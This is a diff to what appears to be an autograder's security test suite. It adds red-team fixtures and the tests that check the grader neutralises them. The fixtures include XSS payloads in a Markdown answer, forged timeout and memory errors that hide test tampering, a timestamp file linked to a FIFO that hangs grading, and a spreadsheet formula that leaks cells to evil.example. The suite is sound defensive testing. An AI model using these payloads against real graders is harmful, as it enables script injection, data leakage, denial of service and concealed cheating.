@@ -510,6 +510,50 @@ def attack_pyc_orphan(kit: Kit):
     return nb
 
 
+def attack_md_xss(kit: Kit):
+    """Round 3 (the red team): script in the student's Markdown answer, which nbgrader's formgrader and
+    feedback render with ``markdown2html`` and no cleaning: JavaScript in the instructor's browser."""
+    nb = honest(kit)
+    cell_by_id(nb, "q_corr_vs_conv").source = (
+        "Symmetric kernels. <script>window.__MARK__ = 7</script><img src=x onerror=\"window.__MARK__=8\">"
+        "<svg onload=\"window.__MARK__=9\"></svg> [more](javascript:window.__MARK__=10) "
+        "[again](&#106;avascript:window.__MARK__=11)").replace("__MARK__", kit.marks["xss"])
+    cell_by_id(nb, "q_filters").source = "The box filter blurs; the Sobel filters find edges."   # plain: kept
+    return nb
+
+
+def attack_fake_status(kit: Kit):
+    """Round 3: edits a test cell (tampering) and raises, in its own cells, an exception named like the grader's
+    timeout and a MemoryError, so that the row reads 'resource limit' or 'timeout' and hides the tampering."""
+    nb = wrong(kit)
+    replace_in_cell(nb, "test_conv_output_size", "conv_output_size", "int")
+    append_code(nb, "raise type('CellTimeoutError', (Exception,), {})('Cell execution timed out after 60 s')\n")
+    append_code(nb, "raise MemoryError('Cannot allocate memory')\n")
+    return nb
+
+
+def attack_ts_fifo(kit: Kit):
+    """Round 3: ``timestamp.txt`` is a link to a FIFO (the grader's read of it blocked the whole class)."""
+    nb = honest(kit)
+
+    def hand_in(folder: Path) -> None:
+        nbformat.write(nb, folder / NOTEBOOK)
+        (folder / "timestamp.txt").unlink()
+        os.mkfifo(folder / "pipe")
+        (folder / "timestamp.txt").symlink_to(folder / "pipe")
+    return hand_in
+
+
+def attack_ts_formula(kit: Kit):
+    """Round 3: ``timestamp.txt`` holds a spreadsheet formula, copied into the instructor's report CSV."""
+    nb = honest(kit)
+
+    def hand_in(folder: Path) -> None:
+        nbformat.write(nb, folder / NOTEBOOK)
+        (folder / "timestamp.txt").write_text('=HYPERLINK("http://evil.example/?leak="&A2,"open")')
+    return hand_in
+
+
 # ----------------------------------------------------------------------------------------- the attacks
 COURSE_FINDER = '''
 import os
@@ -1487,6 +1531,10 @@ ATTACKS: dict[str, Callable] = {
     "logwrite": attack_logwrite,
     "outflood": attack_outflood,
     "pyc_orphan": attack_pyc_orphan,
+    "md_xss": attack_md_xss,
+    "fake_status": attack_fake_status,
+    "ts_fifo": attack_ts_fifo,
+    "ts_formula": attack_ts_formula,
 }
 
 
@@ -2117,3 +2165,48 @@ def test_compiled_copies_of_hidden_modules_are_hidden_too(run):
     text = _outputs_text(run, "pyc_orphan")
     found = re.search(r"PYC-FOUND (\d+)", text)
     assert found and found.group(1) == "0", text[-2000:]
+
+
+# ----------------------------------------------------------------------------------------- round 3
+def test_no_script_in_a_markdown_answer_reaches_the_formgrader(run):
+    """The answer cell is cleaned in the graded notebook (what the formgrader renders) and the feedback; the
+    plain answer of the same student is left exactly as written; points are untouched; the row says so."""
+    assert run.score("md_xss") == 26.0
+    mark = run.marks["xss"]
+    nb = nbformat.read(run.course / "autograded" / "md_xss" / ASSIGNMENT / NOTEBOOK, as_version=4)
+    answer = next(c for c in nb.cells if nbg(c).get("grade_id") == "q_corr_vs_conv").source
+    plain = next(c for c in nb.cells if nbg(c).get("grade_id") == "q_filters").source
+    from nbconvert.filters import markdown2html
+
+    from html_checks import runs
+
+    rendered = markdown2html(answer)                  # as nbgrader's formgrade template renders it
+    assert not runs(rendered), rendered
+    assert "Symmetric kernels." in rendered and plain == "The box filter blurs; the Sobel filters find edges."
+    for path in run.files("md_xss", kinds=("feedback",)):
+        text = path.read_bytes().decode("utf-8", "replace")
+        assert f"<script>window.{mark}" not in text and not [r for r in runs(text) if mark in r[2]], path
+    assert "shown cleaned" in run.report["md_xss"]["detail"]
+
+
+def test_forged_timeout_and_memory_errors_do_not_hide_tampering(run):
+    """Statuses come from what the grader and the sandbox saw, not from error names a student can raise."""
+    row = run.report["fake_status"]
+    assert row["status"] == "tampered test cells (restored)", row
+    assert "interrupted at the per-cell time limit" not in row["detail"]
+    assert "stopped by the sandbox's bounds" not in row["detail"]
+    assert run.score("fake_status") <= run.score("wrong")
+
+
+def test_a_timestamp_linked_to_a_fifo_blocks_nobody(run):
+    """The link is not followed: no timestamp for that student, the class graded (the run finished)."""
+    assert run.score("ts_fifo") == 26.0 and run.report["ts_fifo"]["timestamp"] == ""
+    assert run.score("honest") == 26.0
+
+
+def test_no_report_cell_starts_a_spreadsheet_formula(run):
+    text = (run.course / f"grading_report_{ASSIGNMENT}.csv").read_text()
+    cells = [cell for row in csv.reader(text.splitlines()) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))], "formula in the report"
+    assert run.score("ts_formula") == 26.0 and run.report["ts_formula"]["timestamp"] == ""
+    assert "timestamp.txt (not a time" in run.report["ts_formula"]["detail"]
